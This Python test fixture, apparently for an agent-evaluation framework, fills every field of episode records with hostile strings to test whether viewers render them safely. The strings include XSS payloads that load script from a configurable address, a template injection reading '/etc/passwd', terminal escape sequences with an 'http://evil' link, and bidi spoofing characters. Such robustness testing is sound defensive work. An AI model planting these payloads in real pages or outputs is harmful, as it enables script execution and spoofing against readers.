"""An agent that attacks whoever reads its episode."""

from __future__ import annotations

from collections.abc import Callable

from medgym_core.task import ActionCall
from medgym_core.trajectory import Episode, Step, TurnRecord
from medgym_core.verifier import Status, Verdict

MARK = "document.documentElement.dataset.pwned='run'"


def payloads(address: str) -> list[str]:
    """Texts that run a script or fetch from ``address`` wherever one of them is taken for markup."""
    return [
        f"<script>{MARK}</script>",
        f"<script src={address}/script></script>",
        f"</title></style></pre></textarea><script>{MARK}</script>",
        f"<img src={address}/image onerror={MARK}>",
        f'"><svg onload="{MARK}"><image href="{address}/svg"/></svg>',
        f"' onfocus={MARK} autofocus tabindex=1 x='",
        f'<a id=bait href="javascript:{MARK}">bait</a>',
        f'<iframe src="{address}/frame" srcdoc="<script>parent.{MARK}</script>"></iframe>',
        f'<link rel=stylesheet href={address}/style><style>@import "{address}/import";</style>',
        f'<meta http-equiv=refresh content="0;url={address}/refresh"><base href={address}/>',
        f"<form action={address}/form><button id=bait>go</button></form>",
        f"{{{{ ''.__class__ }}}} {{% include '/etc/passwd' %}} ${{{MARK}}}",
        "\x1b]8;;http://evil\x07link\x1b]8;;\x07 \x1b[2J\x1b]0;title\x07",
        "\u202egnp.exe\u202c \u2066hidden\u2069 zero\u200bwidth\ufeff",
        "null\x00byte \ud7ff \x85 \u2028 line",
        "x" * 200_000,
        "]]>--><!-- <!doctype html><plaintext>",
    ]


def attack(make_episode: Callable[..., Episode], address: str) -> list[Episode]:
    """Episodes with each payload in every text that an agent, a tool or a data set may write."""
    return [_episode(make_episode, number, text) for number, text in enumerate(payloads(address))]


def _episode(make_episode: Callable[..., Episode], number: int, text: str) -> Episode:
    call = ActionCall(name="code_execution", arguments={"code": text, text[:200]: text, "language": text})
    odd = ActionCall(name=text[:300], arguments={"command": text})
    steps = tuple(
        Step(
            turn=0,
            text=text,
            reasoning=text,
            call=asked,
            observation=text,
            ok=False,
            error=text,
            submitted=True,
        )
        for asked in (call, odd, None)
    )
    episode = make_episode(number, status=Status.FAIL, steps=steps, category=text[:300])
    verdict = Verdict(
        status=Status.FAIL, reward=0.0, reason=text, components={text[:300]: 0.5}, details={text: text}
    )
    fields = {"turns": (TurnRecord(answer=text, files={"out.csv": text}),), "verdict": verdict, "error": text}
    key = episode.key.model_copy(update={"agent": text[:300], "agent_config": {"model": text[:300]}})
    return episode.model_copy(update={"system": text, "prompt": text, "key": key, **fields})
